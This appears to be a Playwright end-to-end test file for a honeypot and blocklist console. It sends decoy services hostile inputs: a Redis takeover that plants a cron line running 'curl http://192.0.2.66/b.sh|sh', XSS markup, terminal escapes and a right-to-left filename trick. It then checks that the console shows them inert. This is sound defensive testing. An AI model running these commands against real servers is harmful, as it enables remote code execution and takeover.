import { type ChildProcess, execFile, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { promisify } from 'node:util';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { attack } from '../attack/index.ts';

const root = join(import.meta.dirname, '..');
const browser = '/usr/bin/chromium';
const absent = !existsSync(browser);
/** Where pictures for the documentation go; none are taken where it is not set. */
const pictures = process.env.CALTROP_SCREENSHOTS;

const settings = `profile: lab
decision: {mode: enforce}
server: {port: 0}
sensor: {services: {ssh: {enabled: false}, telnet: {port: 0}, http: {port: 0}, redis: {port: 0}}}
enforcement: {blocklist: {enabled: true}}
`;
/** Lists of others: two that agree on some, and one that is not there, named to hurt. */
function feedsIn(folder: string): string {
  const names = (from: number, to: number) =>
    Array.from({ length: to - from }, (_, n) => `n${from + n}.bad.example\n`).join('');
  writeFileSync(join(folder, 'first.txt'), names(0, 60));
  writeFileSync(join(folder, 'second.txt'), names(40, 120));
  const lists = [
    { name: 'first', path: join(folder, 'first.txt'), format: 'plain' },
    { name: 'second', path: join(folder, 'second.txt'), format: 'plain' },
    { name: 'absent', path: join(folder, `${markup}${override}`), format: 'plain' },
  ];
  return `feeds: ${JSON.stringify({ lists })}\n`;
}
/** What `up` prints. */
interface Said {
  console: string;
  token: string;
  services: { emulator: string; port: number }[];
}

const attacker = '127.9.0.11';
const markup = '<img src=x onerror=alert(1)>';
const escapes = '\u001b[31mred\u001b[0m';
const override = '\u202etxt.exe';

test('the console has no way to make markup of text', () => {
  const sources = readdirSync(join(root, 'console'), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && /\.(tsx?|html)$/.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name));
  expect(sources.length).toBeGreaterThan(20);
  for (const path of sources) {
    const text = readFileSync(path, 'utf8');
    expect(text, path).not.toMatch(
      /dangerouslySetInnerHTML|(inner|outer)HTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc|\bstyle=/,
    );
    expect(text, path).not.toMatch(/https?:\/\/(?!www\.w3\.org)/);
  }
});

describe.skipIf(absent)('in a browser (skipped where /usr/bin/chromium is absent)', () => {
  const folder = mkdtempSync(join(tmpdir(), 'caltrop-console-'));
  const data = join(folder, 'data');
  const profile = mkdtempSync(join(tmpdir(), 'caltrop-chromium-'));
  /** What must stay empty: dialogs, errors, reports of the policy, requests to elsewhere. */
  const wrong: string[] = [];
  const ports: Record<string, number> = {};
  let context: BrowserContext;
  let page: Page;
  let base = '';
  let token = '';
  let system: ChildProcess;

  beforeAll(async () => {
    const browsing = chromium.launchPersistentContext(profile, {
      executablePath: browser,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
      viewport: { width: 1400, height: 900 },
      colorScheme: 'dark',
    });
    // The sensor's own user has to come through to its spool.
    chmodSync(folder, 0o711);
    const file = join(folder, 'caltrop.yaml');
    writeFileSync(file, settings + feedsIn(folder));
    const command = [join(root, 'caltrop'), 'up', '--config', file, '--data', data, '--json'];
    const child = spawn(process.execPath, command, { stdio: ['ignore', 'pipe', 'ignore'] });
    system = child;
    const ended = once(child, 'exit').then(() => {
      throw new Error('the system did not start');
    });
    ended.catch(() => {});
    const [line] = (await Promise.race([once(createInterface({ input: child.stdout }), 'line'), ended])) as [
      string,
    ];
    const said = JSON.parse(line) as Said;
    ({ console: base, token } = said);
    for (const { emulator, port } of said.services) ports[emulator] = port;
    context = await browsing;
    page = context.pages()[0] ?? (await context.newPage());
    page.setDefaultTimeout(10_000);
    page.on('dialog', (dialog) => {
      wrong.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('pageerror', (error) => wrong.push(`an error: ${error.message}`));
    page.on('console', (message) => {
      if (message.type() === 'error') wrong.push(`the log: ${message.text()}`);
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(base)) wrong.push(`a request to ${request.url()}`);
    });
  });
  afterAll(async () => {
    await context?.close();
    if (system) {
      const gone = once(system, 'exit');
      system.kill('SIGTERM');
      await gone;
    }
    rmSync(profile, { recursive: true, force: true });
    rmSync(folder, { recursive: true, force: true });
  });

  async function picture(name: string): Promise<void> {
    if (!pictures) return;
    mkdirSync(pictures, { recursive: true });
    await page.screenshot({ path: join(pictures, `${name}.png`) });
  }
  const open = (path: string) => page.goto(new URL(path, base).href);

  /** Says these lines to a decoy, from one address, and waits until it hangs up or has answered. */
  function say(service: string, ...lines: string[]): Promise<void> {
    return new Promise((resolve, reject) => {
      const socket = connect({ port: ports[service]!, host: '127.0.0.1', localAddress: attacker });
      socket.on('error', reject);
      socket.on('close', () => resolve());
      socket.resume();
      socket.end(lines.map((line) => `${line}\r\n`).join(''));
    });
  }

  test('the token of the address signs in, once, and leaves the address bar', async () => {
    await page.goto(`${base}#token=${token}`);
    await page.getByRole('navigation', { name: 'Views' }).waitFor();
    await page.waitForURL(base);
    await page.getByText('lab', { exact: true }).waitFor();
    await page.getByText('enforcing').waitFor();

    const other = await context.browser()!.newContext();
    const stranger = await other.newPage();
    await stranger.goto(`${base}#token=${token}`);
    await stranger.getByRole('alert').getByText('not valid, or was used before').waitFor();
    await stranger.getByLabel('Token').fill('nonsense');
    await stranger.getByRole('button', { name: 'Sign in' }).click();
    await stranger.getByRole('alert').waitFor();
    await other.close();
  });

  test('hostile words show up live, and stay words', async () => {
    await page.getByText('live', { exact: true }).last().waitFor();
    await say('redis', `SET "${markup}" "${escapes}"`, 'QUIT');
    const row = page.locator('tr.row-event', { hasText: markup });
    await row.first().waitFor();
    const shown = await row.first().textContent();
    expect(shown).toContain('\\x1b[31mred\\x1b[0m');
    expect(shown).not.toContain('\u001b');
    expect(shown).toContain(attacker);
    expect(await page.locator('img, main script, iframe').count()).toBe(0);

    await page.getByRole('searchbox', { name: 'Filter' }).fill('onerror');
    await page.waitForURL((url) => url.searchParams.get('q') === 'onerror');
    await page.locator('tr.row-event', { hasText: 'left' }).waitFor({ state: 'detached' });
    await vi.waitFor(async () => expect(await page.locator('tr.row-event').count()).toBe(1), 5_000);
    await page.getByRole('searchbox', { name: 'Filter' }).fill('');
    await page.waitForURL((url) => !url.searchParams.has('q'));
  });

  test('a takeover is denied with its proof, down to the bytes', async () => {
    await open('/');
    await page.getByText('live', { exact: true }).last().waitFor();
    await say(
      'redis',
      'CONFIG SET dir /var/spool/cron/',
      'CONFIG SET dbfilename root',
      'SET x "* * * * * curl http://192.0.2.66/b.sh|sh"',
      'SAVE',
      'QUIT',
    );
    await page.locator('tr.row-decision', { hasText: attacker }).first().waitFor();
    if (pictures) {
      await attack('all', { target: '127.0.0.1', ports });
      await say('redis', `SET "${markup}" "${escapes}"`, 'QUIT');
      await page.getByRole('searchbox', { name: 'Filter' }).blur();
      await page.waitForTimeout(6_000);
    }
    await picture('live');

    await page.getByRole('link', { name: 'Decisions', exact: true }).first().click();
    const row = page.getByRole('row', { name: new RegExp(attacker.replaceAll('.', '\\.')) });
    await row.getByRole('link', { name: /deny all ports/ }).click();
    await page.getByRole('heading', { name: `Deny ${attacker} on all ports` }).waitFor();
    await page.getByText('a command downloads and runs a program (redis)').waitFor();
    await page.getByRole('table').getByText('applied').waitFor();
    await page.getByRole('button', { name: /^raw / }).first().click();
    await page.locator('pre.raw', { hasText: 'curl http://192.0.2.66/b.sh|sh' }).waitFor();
    await picture('decision');
  });

  test('the source has its story, its payload as a download, and its hostile words', async () => {
    await page.getByRole('link', { name: 'Sources', exact: true }).click();
    await page.getByRole('row', { name: new RegExp(`${attacker.replaceAll('.', '\\.')}.*E5`) }).waitFor();
    await picture('sources');
    // Reached by its address, as from a bookmark.
    await open(`/sources/${attacker}`);
    await page.getByRole('heading', { name: attacker }).waitFor();
    await page.getByText('may be denied').waitFor();
    await page.getByText(markup).first().waitFor();
    await page.getByText('left a file').waitFor();
    await picture('source');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('a.payload').first().click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^[0-9a-f]{64}\.bin$/);
    await page.waitForURL(`**/sources/${attacker}`);
  });

  test('what a log says is as inert: direction overrides, names of sensors, half a surrogate', async () => {
    const stranger = '198.51.100.9';
    const line = {
      eventid: 'cowrie.command.input',
      timestamp: new Date().toISOString(),
      src_ip: stranger,
      session: 'feedc0ffee',
      sensor: markup,
      input: `echo ${escapes} ${override} ${markup} \ud800`,
    };
    const log = join(folder, 'cowrie.json');
    writeFileSync(log, `${JSON.stringify(line)}\n`);
    const [command, ...args] = [process.execPath, join(root, 'caltrop'), 'import', log, '--data', data];
    await promisify(execFile)(command, args);
    await open(`/sources/${stranger}`);
    const event = page.locator('li.event', { hasText: 'echo' });
    await event.waitFor();
    const shown = await page.locator('main').textContent();
    expect(shown).toContain(`echo \\x1b[31mred\\x1b[0m \\u202etxt.exe ${markup} `);
    expect(shown).not.toMatch(/[\u001b\u202e\ud800]/);
    expect(await event.locator('.escape').allTextContents()).toContain('\\u202e');
    expect(await page.locator('img, main script').count()).toBe(0);
    // What its session was found to be, and the session itself.
    const row = page.locator('table.sessions tbody tr');
    expect(await row.locator('.badge.kind').textContent()).toBe('unclassified');
    await row.getByRole('link').first().click();
    await page.getByRole('heading', { name: `Session of ${stranger}` }).waitFor();
    await page.locator('li.event', { hasText: 'echo' }).waitFor();
    expect(await page.locator('main').textContent()).not.toMatch(/[\u001b\u202e\ud800]/);
    expect(await page.locator('img, main script').count()).toBe(0);
    await page.keyboard.press('3');
    await page.getByRole('heading', { name: 'Actors' }).waitFor();
  });

  test('a finding says what was seen and done', async () => {
    await page.keyboard.press('5');
    await page
      .getByRole('row', { name: new RegExp(attacker.replaceAll('.', '\\.')) })
      .first()
      .waitFor();
    await picture('findings');
    await page.getByRole('searchbox', { name: 'Filter' }).fill(attacker);
    await page.getByRole('link', { name: /a command downloads and runs a program/ }).click();
    await page.getByRole('heading', { name: 'What was seen' }).waitFor();
    await page.getByText(`Ordered: deny ${attacker} on all ports`).waitFor();
    await page.getByRole('link', { name: /^decision / }).click();
    await page.getByRole('heading', { name: `Deny ${attacker}` }).waitFor();
  });

  test('a revoke asks for a reason, and ends the deny', async () => {
    await page.getByRole('button', { name: 'Revoke …' }).click();
    const dialog = page.getByRole('dialog');
    expect(await dialog.getByRole('button', { name: 'Revoke' }).isDisabled()).toBe(true);
    await dialog.getByLabel('Reason').fill('a test of ours');
    await dialog.getByRole('button', { name: 'Revoke' }).click();
    await page.getByText('revoked', { exact: true }).waitFor();
    const standing = await page.request.get(`${base}api/v1/decisions?standing=yes&source=${attacker}`);
    expect(await standing.json()).toEqual([]);
    await vi.waitFor(() => {
      expect(readFileSync(join(data, 'blocklist', 'all.txt'), 'utf8')).not.toContain(attacker);
    }, 5_000);
  });

  test('a domain that was looked up is ranked, and what stands around it can be walked', async () => {
    const edges = join(folder, 'edges.tsv');
    const lines = Array.from({ length: 40 }, (_, n) => `www.shop${n}.example\t203.0.113.${n % 7}`);
    lines.push('kjqwxz-login.example\t203.0.113.3');
    writeFileSync(edges, `${lines.join('\n')}\n`);
    await promisify(execFile)(process.execPath, [
      join(root, 'caltrop'),
      ...['import', '--data', data, '--format', 'edges', edges],
    ]);
    const log = join(folder, 'dnsmasq.log');
    const [at, month, , clock] = new Date(Date.now() - 7_200_000).toUTCString().slice(5, 25).split(' ');
    const asked = ['kjqwxz-login.example', 'www.shop4.example', 'www.shop9.example'].flatMap((name) =>
      [1, 2, 3, 4].map((n) => `${month} ${at} ${clock} dnsmasq[1]: query[A] ${name} from 10.1.2.${n}`),
    );
    writeFileSync(log, `${asked.join('\n')}\n`);
    await promisify(execFile)(process.execPath, [
      join(root, 'caltrop'),
      ...['import', '--data', data, '--format', 'dnsmasq', log],
    ]);
    await page.keyboard.press('6');
    await page.getByRole('heading', { name: 'Domains' }).waitFor();
    await page.getByRole('searchbox', { name: 'Filter' }).fill('kjqwxz');
    await page.getByRole('link', { name: 'kjqwxz-login.example' }).click();
    await page.getByRole('heading', { name: 'Why' }).waitFor();
    await page.getByText('of every name, before anything is known of it').waitFor();
    await page.getByRole('img', { name: 'What the name is joined to' }).waitFor();
    await page.getByRole('heading', { name: 'Over time' }).waitFor();
    await page.getByRole('heading', { name: 'Who asked' }).waitFor();
    await page.getByText('First seen', { exact: true }).waitFor();
    await picture('domain');
    // From the picture to the network that asked, by no name that tells which it is, and on to what else it asked for.
    await page
      .getByText(/^clients [0-9a-f]{8}…$/)
      .first()
      .waitFor();
    await page.getByText('a group of at least 3').first().waitFor();
    await page
      .locator('table.edges')
      .getByRole('link', { name: /^clients [0-9a-f]{8}…$/ })
      .first()
      .click();
    await page.getByRole('heading', { name: /^clients [0-9a-f]{12}$/ }).waitFor();
    await picture('clients');
    await page.getByRole('link', { name: 'www.shop9.example' }).click();
    await page.getByRole('heading', { name: 'www.shop9.example' }).waitFor();
    await page.getByRole('link', { name: /^[0-9a-f]{12}$/ }).click();
    await page.getByRole('link', { name: 'kjqwxz-login.example' }).waitFor();
    // Reached by its address, as from a bookmark, although that looks like a file's.
    await open('/domains/kjqwxz-login.example');
    await page.getByRole('heading', { name: 'kjqwxz-login.example' }).waitFor();
    await page.locator('.title .badge.score').waitFor();
    // On a narrow screen nothing is wider than it, but what scrolls within its frame.
    await page.setViewportSize({ width: 390, height: 900 });
    expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
    await page.setViewportSize({ width: 1400, height: 900 });
    await page.getByRole('link', { name: 'www.shop3.example' }).first().click();
    await page.getByRole('heading', { name: 'www.shop3.example' }).waitFor();
    await page.keyboard.press('6');
    await page.getByLabel('New today').check();
    await page.getByText('No name came to the threshold today.').waitFor();
    // Keys lead elsewhere again once the box has lost them.
    await page.getByRole('heading', { name: 'Domains' }).click();
    await page.getByLabel('New today').blur();
  });

  test('the lists of others say how far each is believed, and why', async () => {
    await page.keyboard.press('7');
    const row = (name: string) => page.locator('table.feeds tbody tr', { hasText: name });
    await row('first').getByText('others agree on 1').waitFor();
    expect(await row('first').locator('meter').getAttribute('value')).toMatch(/^0\.[4-9]/);
    expect(await row('second').locator('td').nth(1).textContent()).toBe('80');
    expect(await row('absent').getByText('not weighed yet').count()).toBe(1);
    const shown = await row('absent').textContent();
    expect(shown).toContain(markup);
    expect(shown).toContain('\\u202e');
    expect(shown).not.toContain('\u202e');
    expect(await page.locator('img, main script').count()).toBe(0);
    await picture('feeds');
    await page.setViewportSize({ width: 390, height: 900 });
    expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(390);
    await page.setViewportSize({ width: 1400, height: 900 });
  });

  test('the kill switch shows on every view, with its proof', async () => {
    await page.keyboard.press('7');
    await page.getByRole('heading', { name: 'System' }).waitFor();
    await page.getByText('no way out').or(page.getByText('may dial out')).waitFor();
    await picture('system');
    await page.getByRole('button', { name: 'Deny nothing any more …' }).click();
    await page.getByRole('dialog').getByLabel('Reason').fill('a drill');
    await page.getByRole('button', { name: 'Deny nothing', exact: true }).click();
    await page.getByText('Every set was read back empty.').waitFor();
    await page.keyboard.press('2');
    await page.getByText('Kill switch set.').waitFor();
    await page.keyboard.press('7');
    await page.getByRole('button', { name: 'Let decisions be enforced …' }).click();
    await page.getByRole('dialog').getByLabel('Reason').fill('over');
    await page.getByRole('button', { name: 'Enforce again' }).click();
    await page.getByText('Kill switch is not set').waitFor();
  });

  test('all the while nothing of it became code, and nothing was asked of anyone else', () => {
    expect(wrong).toEqual([]);
  });

  // Last, for a lost stream is an error in the browser's log.
  test('a lost stream says so, comes back, and shows what was missed', async () => {
    await page.route('**/api/v1/stream', (route) => route.abort());
    await open('/');
    await page.getByText('stream lost, reconnecting …').waitFor();
    await say('redis', 'SET missed "while away"', 'QUIT');
    await page.unroute('**/api/v1/stream');
    await page.getByText('live', { exact: true }).last().waitFor({ timeout: 20_000 });
    await page.locator('tr.row-event', { hasText: 'while away' }).first().waitFor();
  });
});
